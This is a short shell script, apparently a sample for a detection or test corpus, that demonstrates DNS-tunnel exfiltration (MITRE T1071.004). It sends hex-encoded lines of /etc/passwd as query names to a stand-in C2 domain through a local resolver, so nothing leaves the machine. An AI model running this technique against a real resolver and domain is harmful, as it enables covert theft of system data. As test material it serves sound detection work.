#!/bin/sh
# DNS application-layer protocol (T1071.004): data hex-encoded into query names, sent to a
# hard-coded server. The server is 127.0.0.1:53 (nothing listens; nothing leaves the machine);
# the encoded query names are what shows the channel.
for chunk in 726f6f743a783a303a303a726f6f743a2f726f6f74 3a2f62696e2f73680a6170703a783a31303030; do
  /bin/nslookup -type=txt "$chunk.c2.example.invalid" 127.0.0.1 || true
done
echo "[corpus] dns done"
